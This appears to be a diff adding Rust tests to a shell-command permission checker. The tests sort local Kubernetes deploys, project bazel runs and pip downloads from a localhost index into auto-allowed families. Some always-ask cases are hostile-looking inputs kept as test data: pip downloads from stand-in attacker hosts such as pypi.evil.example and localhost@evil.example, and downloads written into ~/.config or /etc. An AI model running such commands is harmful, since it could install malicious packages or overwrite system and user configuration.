@@ -1,0 +1,118 @@
+//! Commands of a project's own workflow that join a family once what they act on is plain
+//! from the command: a Kubernetes operator's Makefile deploying to a cluster the command shows
+//! is on this machine (the local cluster family, as `kind load` is), `bazel run` of the
+//! project's own targets and a download from a package index on this machine (the project's
+//! family). Their neighbours that reach the current cluster, publish, deploy, or fetch from
+//! another index keep asking.
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::indexing_slicing,
+    clippy::panic,
+    missing_docs
+)]
+
+mod common;
+
+use airlock_shell::{Level, judge};
+use common::{ENV, always_ask, family, project_family};
+
+#[test]
+fn an_operators_make_targets_on_a_local_cluster_are_the_local_cluster_family() {
+    family(
+        "local cluster",
+        &[
+            "make deploy IMG=kind.local/snapshot-operator:dev",
+            "make deploy IMG=snapshot-operator:dev",
+            "make deploy IMG=localhost:5001/snapshot-operator:pr-88",
+            "make deploy IMG=ko.local/operator",
+            "make deploy IMG=snapshot-operator:dev -j4",
+            "make install KUBECONFIG=/tmp/kind-snapshots.kubeconfig",
+            "make install KUBE_CONTEXT=kind-snapshots",
+            "make undeploy KUBECONFIG=hack/kind.kubeconfig",
+            "make install deploy IMG=op:dev KUBECONTEXT=k3d-dev",
+            // The family `kind load` and a local context's kubectl are in.
+            "kind load docker-image snapshot-operator:dev --name snapshots",
+            "kubectl --context kind-snapshots apply -k config/default",
+        ],
+    );
+}
+
+#[test]
+fn an_operators_make_targets_on_the_current_cluster_keep_asking() {
+    always_ask(&[
+        "make install",
+        "make uninstall",
+        "make deploy",
+        "make deploy IMG=ghcr.io/tessera/snapshot-operator:v0.7.0",
+        "make deploy IMG=tessera/snapshot-operator:dev",
+        "make deploy IMG=registry.example.com:5000/op:dev",
+        "make deploy IMG=op:prod",
+        "make deploy IMG=$IMG",
+        "make deploy IMG=op:dev KUBECONFIG=~/.kube/prod",
+        "make deploy IMG=op:dev KUBE_CONTEXT=gke_tessera-prod_europe-west4_prod-eu",
+        "make deploy IMG=op:dev KUBECONFIG=/tmp/kind-prod.yaml",
+        "KUBECONFIG=~/.kube/prod make deploy IMG=op:dev",
+        "make deploy IMG=op:dev ENV=prod",
+        "make deploy docker-push IMG=op:dev",
+        "make -C ../other deploy IMG=op:dev",
+        "make deploy -f other.mk IMG=op:dev",
+        // Installing the definitions: an image says nothing of the cluster.
+        "make install IMG=op:dev",
+        "make install deploy IMG=op:dev",
+    ]);
+}
+
+#[test]
+fn bazel_run_of_the_projects_targets_is_the_project_family() {
+    project_family(&[
+        "bazel run -c opt //libs/geom:simplify_bench -- --benchmark_filter='Visvalingam|DouglasPeucker'",
+        "bazel run -c opt //libs/geom:simplify_bench -- --benchmark_filter=Visvalingam",
+        "bazel run //libs/geom:simplify_bench",
+        "bazel run //:gazelle",
+        "bazel run //:gazelle -- --mode=diff py/",
+        "bazel run //:buildifier.check",
+        "bazelisk run //tools:codegen",
+    ]);
+    always_ask(&[
+        "bazel run //py/meridian_geo:wheel.publish -- --repository-url http://localhost:8080",
+        "bazel run //services/tiler:deploy_prod",
+        "bazel run //services/tiler:image_push -- --tag latest",
+        "bazel run //deploy:prod_deploy",
+        "bazel run //:release",
+        "bazel run //k8s:prod.apply",
+        "bazel run //k8s:dev.delete",
+        "bazel run //k8s:staging.replace",
+    ]);
+}
+
+#[test]
+fn a_download_from_an_index_on_this_machine_is_the_project_family() {
+    project_family(&[
+        "pip download --no-deps --index-url http://localhost:8080/simple/ meridian-geo==1.9.0 -d /tmp/dl",
+        "pip download --no-deps -i http://127.0.0.1:8080/simple meridian-geo -d wheels",
+        "pip download --index-url=http://localhost:8080/simple/ meridian-geo",
+        "pip3 download -i http://localhost:3141/root/dev/+simple/ shop -d dist/check",
+    ]);
+    always_ask(&[
+        // Another index beside it, or one that only looks local.
+        "pip download -i http://localhost:8080/simple -i https://pypi.evil.example/simple x",
+        "pip download -i http://localhost@evil.example/simple x",
+        "pip download -i http://localhost.evil.example/simple x",
+        // Written outside the workspace and beyond a scratch folder under /tmp.
+        "pip download -i http://localhost:8080/simple x -d ~/.config",
+        "pip download -i http://localhost:8080/simple x -d /tmp/a/b",
+        "pip download -i http://localhost:8080/simple x -d /etc",
+        "pip download -i http://localhost:8080/simple x -d ../elsewhere",
+    ]);
+    // From the public index, or with an extra one, it asks under its own words, as before.
+    for s in [
+        "pip download requests",
+        "pip download -i http://localhost:8080/simple --extra-index-url https://evil/simple x",
+        "pip download --index-url https://pypi.example.org/simple x",
+    ] {
+        let v = judge(s, &ENV);
+        assert_eq!(v.level, Level::AskOnce, "{s}: {}", v.row);
+        assert_eq!(v.grant.as_deref(), Some("pip download"), "{s}");
+    }
+}
